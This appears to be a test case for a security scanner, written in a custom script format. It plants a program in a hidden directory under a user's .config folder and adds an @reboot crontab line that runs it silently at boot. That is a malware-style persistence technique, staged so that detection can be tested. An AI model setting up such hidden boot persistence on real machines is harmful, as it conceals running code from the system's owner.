# id: P44
# mode: scan
# level: suspicious
# title: a crontab line that starts a program from a hidden directory at boot
# due: now
word name
mkdir -p "/home/anna/.config/.$name"
cp "$here/idle" "/home/anna/.config/.$name/$name"
chown -R anna: /home/anna/.config
echo "@reboot /home/anna/.config/.$name/$name >/dev/null 2>&1 &" >/var/spool/cron/crontabs/anna
chown anna:crontab /var/spool/cron/crontabs/anna
chmod 600 /var/spool/cron/crontabs/anna
said path /var/spool/cron/crontabs/anna
